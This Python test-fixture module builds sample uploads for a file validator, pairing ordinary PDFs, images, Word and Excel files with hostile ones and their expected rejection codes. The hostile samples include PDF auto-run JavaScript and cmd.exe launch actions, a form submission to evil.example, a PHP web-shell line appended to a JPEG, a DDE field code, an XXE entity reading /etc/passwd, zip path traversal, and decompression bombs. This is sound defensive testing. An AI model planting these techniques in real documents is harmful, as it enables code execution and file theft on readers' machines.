"""Files as people hand them in, and files as they should never be taken."""

import io
import zipfile
import zlib
from collections.abc import Callable

import openpyxl
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.{kind}"/></Types>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8"?>{doctype}<w:document xmlns:w="w"><w:body><w:p>{body}</w:p></w:body>'
    "</w:document>"
)
RELATION = (
    '<?xml version="1.0"?><Relationships xmlns="r"><Relationship Id="1" Type="http://x/{kind}" '
    'Target="http://evil.example/x" TargetMode="External"/></Relationships>'
)
PLAIN_RUN = "<w:r><w:t>组建协议 DDE 不是域</w:t></w:r>"


def pdf(change: Callable[[PdfWriter], None] | None = None) -> bytes:
    """A one-page PDF, changed by ``change``."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **more: object) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        action = DictionaryObject({NameObject("/S"): NameObject(f"/{kind}")})
        for key, value in more.items():
            action[NameObject(f"/{key}")] = TextStringObject(str(value))
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return change


def _in_page(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
    )
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})


def _unreached(writer: PdfWriter) -> None:
    writer._add_object(DictionaryObject({NameObject("/S"): NameObject("/Launch")}))


def _form(writer: PdfWriter) -> None:
    stream = DecodedStreamObject()
    stream.set_data(b"<xdp/>")
    form = DictionaryObject(
        {NameObject("/XFA"): writer._add_object(stream), NameObject("/Fields"): ArrayObject()}
    )
    writer._root_object[NameObject("/AcroForm")] = form


def _named_script(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
    )
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("a"), writer._add_object(action)])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def hidden_name_pdf() -> bytes:
    """/JavaScript spelt with an escape, which only a parser sees."""
    return pdf(_in_page).replace(b"/JavaScript", b"/Java#53cript")


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), **save: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, kind, **save)
    return out.getvalue()


def located_jpeg() -> bytes:
    """A photograph that says where it was taken, lying on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    exif[0x010E] = "37.5301N"
    return picture("JPEG", exif=exif)


def huge_png() -> bytes:
    """Few bytes that decode to 400 million pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    head = (20_000).to_bytes(4, "big") * 2 + b"\x01\x00\x00\x00\x00"
    rows = zlib.compress(b"\x00" * (2501 * 20_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def archive(
    parts: dict[str, bytes | str], *, method: int = zipfile.ZIP_DEFLATED, comment: bytes = b""
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, content in parts.items():
            made.writestr(name, content)
        made.comment = comment
    return out.getvalue()


def docx(
    more: dict[str, bytes | str] | None = None,
    *,
    kind: str = "document.main+xml",
    doctype: str = "",
    body: str = "",
) -> bytes:
    """A minimal Word document with further parts."""
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": CONTENT_TYPES.format(kind=kind),
        "word/document.xml": DOCUMENT.format(doctype=doctype, body=body or PLAIN_RUN),
    }
    return archive({**parts, **(more or {})})


def xlsx() -> bytes:
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "研发投入"
    book.active["B1"] = 12.5
    book.save(out)
    return out.getvalue()


def xlsx_with(more: dict[str, bytes | str]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(xlsx())) as read:
        parts: dict[str, bytes | str] = {name: read.read(name) for name in read.namelist()}
    return archive({**parts, **more})


def twice_named_docx() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made:
        made.writestr("WORD/document.xml", DOCUMENT.format(doctype="", body=""))
    return out.getvalue()


def overlapping_docx() -> bytes:
    """Two directory entries over the same bytes."""
    data = bytearray(docx({"word/a.xml": "<a/>", "word/b.xml": "<a/>"}))
    first = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/a.xml"))
    second = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/b.xml"))
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def encrypted_docx() -> bytes:
    data = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.rfind(mark) + place] |= 1
    return bytes(data)


def encrypted_pdf() -> bytes:
    return pdf(lambda writer: writer.encrypt("", "owner-secret", algorithm="RC4-128"))


def million_rows() -> str:
    return "<sheetData>" + "<row><c/></row>" * 1_000_000 + "</sheetData>"


FIELD_CODE = "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd</w:instrText></w:r>"
ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
EXTERNAL_ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
ZIP = archive({"a.txt": "a"})

#: name, bytes (or what makes them, where they are many), the code it is refused with.
HOSTILE: list[tuple[str, bytes | Callable[[], bytes], str]] = [
    ("空.pdf", b"", "empty"),
    ("图片.pdf", picture(), "mismatch"),
    ("文档.png", pdf(), "mismatch"),
    ("照片.png", picture("JPEG"), "mismatch"),
    ("表.docx", xlsx(), "mismatch"),
    ("文.xlsx", docx(), "mismatch"),
    ("普通压缩包.docx", ZIP, "mismatch"),
    ("文本.pdf", "假的 PDF".encode(), "mismatch"),
    ("网页.pdf", b"<html><script>alert(1)</script></html>", "mismatch"),
    ("前缀.pdf", b"\n" + pdf(), "mismatch"),
    ("截断.pdf", pdf()[:200], "damaged"),
    ("只有头.pdf", b"%PDF-1.7\n%%EOF\n", "damaged"),
    ("乱码.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"%%EOF\n", "damaged"),
    ("加密.pdf", encrypted_pdf(), "encrypted"),
    ("夹带.pdf", pdf() + ZIP, "polyglot"),
    ("夹带脚本.pdf", pdf() + b"<script>alert(1)</script>", "polyglot"),
    ("网页头.pdf", pdf().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<html><script>\n"), "polyglot"),
    ("脚本.pdf", pdf(_named_script), "active"),
    ("打开即运行.pdf", pdf(_action("JavaScript", JS="app.alert(1)")), "active"),
    ("启动程序.pdf", pdf(_action("Launch", F="cmd.exe")), "active"),
    ("提交.pdf", pdf(_action("SubmitForm", F="http://evil.example")), "active"),
    ("导入.pdf", pdf(_action("ImportData", F="x.fdf")), "active"),
    ("页面脚本.pdf", pdf(_in_page), "active"),
    ("转义脚本.pdf", hidden_name_pdf(), "active"),
    ("游离动作.pdf", pdf(_unreached), "active"),
    ("动态表单.pdf", pdf(_form), "active"),
    ("嵌入附件.pdf", pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")), "embedded"),
    ("截断.png", picture(size=(900, 900))[:600], "damaged"),
    ("截断.jpg", picture("JPEG", (900, 900))[:600], "damaged"),
    ("只有头.png", b"\x89PNG\r\n\x1a\n", "damaged"),
    ("炸弹.png", huge_png, "pixels"),
    ("夹带.png", picture() + ZIP, "polyglot"),
    ("尾部.png", picture() + b"tail", "polyglot"),
    ("夹带.jpg", picture("JPEG") + b"<?php system($_GET[0]); ?>", "polyglot"),
    ("注释脚本.jpg", picture("JPEG", comment=b"<script>alert(1)</script>"), "polyglot"),
    ("旧格式.docx", OLE, "encrypted"),
    ("截断.docx", docx()[:-40], "damaged"),
    ("加密.docx", encrypted_docx(), "encrypted"),
    ("宏.docx", docx({"word/vbaProject.bin": b"x"}), "macro"),
    ("宏类型.docx", docx(kind="document.macroEnabled.main+xml"), "macro"),
    ("模板.docx", docx(kind="template.main+xml"), "mismatch"),
    ("宏表.xlsx", xlsx_with({"xl/macrosheets/sheet1.xml": "<a/>"}), "macro"),
    ("对象.docx", docx({"word/embeddings/oleObject1.bin": OLE}), "ole"),
    ("控件.docx", docx({"word/activeX/activeX1.xml": "<a/>"}), "ole"),
    ("伪装对象.docx", docx({"word/media/image1.png": OLE}), "ole"),
    ("外部链接.xlsx", xlsx_with({"xl/externalLinks/externalLink1.xml": "<a/>"}), "external"),
    ("数据连接.xlsx", xlsx_with({"xl/connections.xml": "<a/>"}), "external"),
    ("外部图片.docx", docx({"word/_rels/document.xml.rels": RELATION.format(kind="image")}), "external"),
    ("外部模板.docx", docx({"word/_rels/settings.xml.rels": RELATION.format(kind="attachedTemplate")}), "external"),
    ("域.docx", docx(body=FIELD_CODE), "external"),
    ("夹带压缩包.docx", docx({"word/media/a.zip": ZIP}), "nested"),
    ("改名压缩包.docx", docx({"word/media/image1.png": ZIP}), "nested"),
    ("夹带程序.docx", docx({"word/media/image1.emf": b"MZ\x90\x00"}), "nested"),
    ("夹带网页.docx", docx({"word/a.html": "<script>"}), "nested"),
    ("重名.docx", twice_named_docx(), "duplicate"),
    ("上级路径.docx", docx({"word/../../x.xml": "<a/>"}), "names"),
    ("绝对路径.docx", docx({"/etc/x.xml": "<a/>"}), "names"),
    ("反斜杠.docx", docx({"word\\..\\x.xml": "<a/>"}), "names"),
    ("实体.docx", docx(doctype=ENTITIES), "entities"),
    ("外部实体.docx", docx(doctype=EXTERNAL_ENTITY), "entities"),
    ("坏标记.docx", docx({"word/a.xml": "<a><b></a>"}), "damaged"),
    ("坏编码.docx", docx({"word/a.xml": b"<?xml version='1.0' encoding='nonsense'?><a/>"}), "damaged"),
    ("压缩炸弹.xlsx", lambda: xlsx_with({"xl/media/a.png": b" " * (40 << 20)}), "ratio"),
    ("解压过大.xlsx", lambda: xlsx_with({f"xl/media/{n}.png": b" " * (40 << 20) for n in range(4)}), "total"),
    ("部件过多.docx", docx({f"word/{n}.xml": "" for n in range(2100)}), "entries"),
    ("重叠.docx", overlapping_docx(), "ratio"),
    ("注释.docx", archive({"[Content_Types].xml": "", "word/document.xml": ""}, comment=b"PK"), "polyglot"),
    ("前缀.docx", b"GIF89a" + docx(), "mismatch"),
]  # fmt: skip

GOOD: list[tuple[str, bytes, str]] = [
    ("协议.pdf", pdf(), "application/pdf"),
    ("带网址的.pdf", pdf(_action("URI", URI="https://example.com")), "application/pdf"),
    ("章.png", picture(), "image/png"),
    ("照片.JPEG", picture("JPEG"), "image/jpeg"),
    ("方案.docx", docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    (
        "超链接.docx",
        docx({"word/_rels/document.xml.rels": RELATION.format(kind="hyperlink")}),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    ("预算.xlsx", xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
]
